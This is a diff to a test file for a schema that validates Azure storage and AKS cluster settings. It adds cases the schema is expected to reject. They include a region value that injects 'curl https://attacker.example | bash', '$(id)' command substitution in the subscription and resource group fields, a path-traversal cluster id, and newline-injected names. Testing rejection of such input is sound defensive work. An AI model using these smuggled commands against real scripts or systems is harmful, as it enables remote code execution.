@@ -21,10 +21,24 @@ describe("newRunSchema", () => {
     ["no cluster", { clusterIds: [] }, "clusterIds"],
     ["an invalid account name", { storage: [{ ...valid.storage[0], accountName: "Kube_Audit" }] }, "storage"],
     ["a bad resource group", { storage: [{ ...valid.storage[0], resourceGroup: "rg." }] }, "storage"],
+    ["a region that breaks out of a script line", { storage: [{ ...valid.storage[0], region: "x)\ncurl https://attacker.example | bash\n#" }] }, "storage.0.region"],
+    ["a region with a space", { storage: [{ ...valid.storage[0], region: "east us" }] }, "storage.0.region"],
+    ["an empty region", { storage: [{ ...valid.storage[0], region: "" }] }, "storage.0.region"],
+    ["a storage subscription that is not a GUID", { storage: [{ ...valid.storage[0], subscriptionId: "$(id)" }] }, "storage.0.subscriptionId"],
+    ["a resource group with shell syntax", { storage: [{ ...valid.storage[0], resourceGroup: "rg;$(id)" }] }, "storage.0.resourceGroup"],
+    ["a resource group over 90 characters", { storage: [{ ...valid.storage[0], resourceGroup: "r".repeat(91) }] }, "storage.0.resourceGroup"],
+    ["an account name with a newline", { storage: [{ ...valid.storage[0], accountName: "kubeaudit\nx" }] }, "storage.0.accountName"],
+    ["a cluster id that is not an AKS id", { clusterIds: ["/subscriptions/x/../../etc"] }, "clusterIds.0"],
+    ["a cluster name with a newline", { clusterIds: [`${valid.clusterIds[0]}\n#`] }, "clusterIds.0"],
   ])("refuses %s", (_label, patch, field) => {
     const result = newRunSchema.safeParse({ ...valid, ...patch });
     expect(result.success).toBe(false);
-    expect(result.error?.issues[0]?.path[0]).toBe(field);
+    expect(result.error?.issues[0]?.path.join(".").startsWith(field)).toBe(true);
+  });
+
+  it("takes a region's name in lowercase", () => {
+    const result = newRunSchema.safeParse({ ...valid, storage: [{ ...valid.storage[0], region: "EastUS2" }] });
+    expect(result.data?.storage[0]?.region).toBe("eastus2");
   });
 });
 
